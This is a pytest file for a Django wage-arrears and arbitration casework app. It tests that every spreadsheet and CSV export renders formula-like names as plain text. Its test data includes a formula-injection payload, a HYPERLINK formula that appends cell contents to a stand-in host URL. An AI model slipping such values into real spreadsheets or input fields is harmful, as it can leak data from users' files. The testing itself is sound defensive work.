"""Every spreadsheet the product offers, opened with parties named like formulas: no cell is a formula.

The exports are enumerated from the URL configuration (a new ``.xlsx``/``.csv`` route or ``-export`` page
fails ``test_every_export_is_covered`` until it is added here), and a grep keeps every workbook writer on
``casework.spreadsheets``.
"""

import datetime
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from arbitration.services import arbitration as arb_svc
from arrears.services import cases as arrears_svc
from arrears.services import ledger
from casework.clues.services import clue_register, clue_reply, clue_transfer
from casework.roles import Role
from tests.factories import EmployerFactory, PersonFactory, make_id_number

ATTACKS = ['=HYPERLINK("http://x/"&A1,"查看详情")', "+1", "@SUM(1)"]
ROOT = Path(__file__).resolve().parents[2]


def _ago(days: int) -> datetime.date:
    return timezone.localdate() - timedelta(days=days)


def _quarter(day: datetime.date) -> dict:
    return {"year": day.year, "quarter": (day.month - 1) // 3 + 1}


@pytest.fixture
def seeded(make_user, jishou, staff):
    """One arrears case per attack name on the quarter's public list, one arbitration case per attack."""
    chair = make_user(Role.ARBITRATION_CHAIR, jishou)
    for i, name in enumerate(ATTACKS):
        employer = EmployerFactory(jurisdiction=jishou, name=name, legal_representative=name)
        case = arrears_svc.arrears_case_open(
            actor=staff["clerk"], jurisdiction=jishou, employer=employer, facts=name, opened_on=_ago(40)
        )
        arrears_svc.arrears_assign(
            actor=staff["head"], case_id=case.pk, inspectors=[staff["inspector1"], staff["inspector2"]]
        )
        ledger.worker_add(
            actor=staff["inspector1"],
            case_id=case.pk,
            name=name,
            id_number=make_id_number(seq=100 + i),
            months_unpaid=3,
            amount_owed="60000.00",
            is_migrant_worker=True,
        )
        arrears_svc.arrears_order_payment(
            actor=staff["inspector1"], case_id=case.pk, period=10, items=name, served_on=_ago(20)
        )
        arb_svc.arbitration_apply(
            actor=chair,
            jurisdiction=jishou,
            applicants=[PersonFactory(name=name)],
            respondent=employer,
            claims=[{"claim_type": "wages", "description": name, "amount": "1000.00"}],
            facts=name,
            received_on=_ago(5),
        )
        clue = clue_register(
            actor=staff["clerk"],
            jurisdiction=jishou,
            channel="national_platform",
            external_ref=f"X-{i}",
            received_on=_ago(5),
            reporter_name=name,
            employer_name=name,
            project_name=name,
            facts=name,
        )
        clue_transfer(actor=staff["inspector1"], clue_id=clue.pk, target="州局", reason=name)
        clue_reply(actor=staff["inspector1"], clue_id=clue.pk, outcome="transferred", reply_text=name)
    return {"chair": chair}


def _exports(staff, seeded):
    """(URL name, user, query) for every export the product offers."""
    month = _ago(20).strftime("%Y-%m")
    return {
        "arbitration-export": (seeded["chair"], {}),
        "arrears:public-list": (staff["inspector1"], {**_quarter(_ago(20)), "format": "xlsx"}),
        "arrears:worker-template": (staff["inspector1"], {}),
        "stats-return-xlsx": (staff["director"], {"month": month}),
        "clue-export": (staff["inspector1"], {"channel": "national_platform"}),
        "arrears:monitoring-template": (staff["inspector1"], {}, ["transfer"]),
        "stats-return-download": (staff["director"], {"period": "month", "month": month}, ["ma2"]),
    }


CSV_EXPORTS = {"green:open-data-csv"}  # tested by test_the_open_data_csv_keeps_text_as_text


def _export_routes() -> set[str]:
    """URL names whose route is a spreadsheet, or a case type's ``-export`` page."""
    found = set()

    def walk(patterns, namespace=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and p.name:
                route = str(p.pattern)
                if re.search(r"\.(xlsx|csv)", route) or p.name.endswith("-export"):
                    found.add(namespace + p.name)

    walk(get_resolver().url_patterns)
    return found


def test_every_export_is_covered(staff, seeded):
    covered = set(_exports(staff, seeded)) | CSV_EXPORTS
    assert _export_routes() <= covered, "an export route this test does not open"


def test_no_export_turns_user_text_into_a_formula(client, staff, seeded):
    seen_attacks = set()
    for name, (user, query, *args) in _exports(staff, seeded).items():
        client.force_login(user)
        response = client.get(reverse(name, args=args[0] if args else None), query)
        assert response.status_code == 200, name
        assert response["Cache-Control"] == "no-store", name
        workbook = load_workbook(io.BytesIO(response.content))
        for sheet in workbook.worksheets:
            cells = [c for row in sheet.iter_rows() for c in row]
            formulas = [(sheet.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
            assert not formulas, f"{name}: {formulas}"
            seen_attacks |= {c.value for c in cells if c.value in ATTACKS}
    assert seen_attacks == set(ATTACKS)  # the hostile names did reach the exports, as text


def test_public_list_has_one_row_per_violator(client, staff, seeded, jishou):
    employer = EmployerFactory(jurisdiction=jishou, name="湘西两案建设有限公司")
    numbers = []
    for i in range(2):
        case = arrears_svc.arrears_case_open(
            actor=staff["clerk"], jurisdiction=jishou, employer=employer, facts="拖欠", opened_on=_ago(40)
        )
        arrears_svc.arrears_assign(
            actor=staff["head"], case_id=case.pk, inspectors=[staff["inspector1"], staff["inspector2"]]
        )
        ledger.worker_add(
            actor=staff["inspector1"],
            case_id=case.pk,
            name=f"工人{i}",
            id_number=make_id_number(seq=200 + i),
            months_unpaid=3,
            amount_owed=f"{60000 + i * 1000}.00",
            is_migrant_worker=True,
        )
        arrears_svc.arrears_order_payment(
            actor=staff["inspector1"], case_id=case.pk, period=10, items="限期支付", served_on=_ago(20)
        )
        numbers.append(case.number)
    client.force_login(staff["inspector1"])
    query = {**_quarter(_ago(20)), "format": "xlsx"}
    sheet = load_workbook(io.BytesIO(client.get(reverse("arrears:public-list"), query).content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    mine = [r for r in rows if r[1] == employer.name]
    assert len(mine) == 1
    assert len(rows) == len(ATTACKS) + 1  # one per employer
    facts, handling, case_numbers = mine[0][4], mine[0][5], mine[0][6]
    assert "60,000.00" in facts and "61,000.00" in facts and "（2）" in facts
    assert handling.count("责令支付") == 2
    assert all(number in case_numbers for number in numbers)
    page = client.get(reverse("arrears:public-list"), _quarter(_ago(20))).content.decode()
    assert page.count(employer.name) == 1


WRITER = ROOT / "casework" / "spreadsheets.py"
WORKBOOK_WRITE = re.compile(
    r"\bWorkbook\s*\(|csv\.writer\s*\(|csv\.DictWriter\s*\(|from openpyxl import .*\bWorkbook\b"
)


def test_only_the_writer_creates_workbooks_or_csv():
    """A module that writes a spreadsheet without ``casework.spreadsheets`` would skip the neutraliser."""
    offenders = []
    for app in ("casework", "arrears", "arbitration", "config", "control"):
        for path in (ROOT / app).rglob("*.py"):
            if path == WRITER or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            offenders += [f"{path.relative_to(ROOT)}: {m.group(0)}" for m in WORKBOOK_WRITE.finditer(text)]
    assert not offenders


def test_the_open_data_csv_keeps_text_as_text(client, settings, tmp_path):
    import csv

    from casework.public import open_data

    settings.MEDIA_ROOT = tmp_path
    open_data.generate()
    response = client.get(reverse("green:open-data-csv"))
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows and rows[0]
    risky = [v for row in rows for v in row if v[:1] in ("=", "+", "@", "\t", "\r")]
    assert risky == []  # a value that would start a formula is written with a leading apostrophe
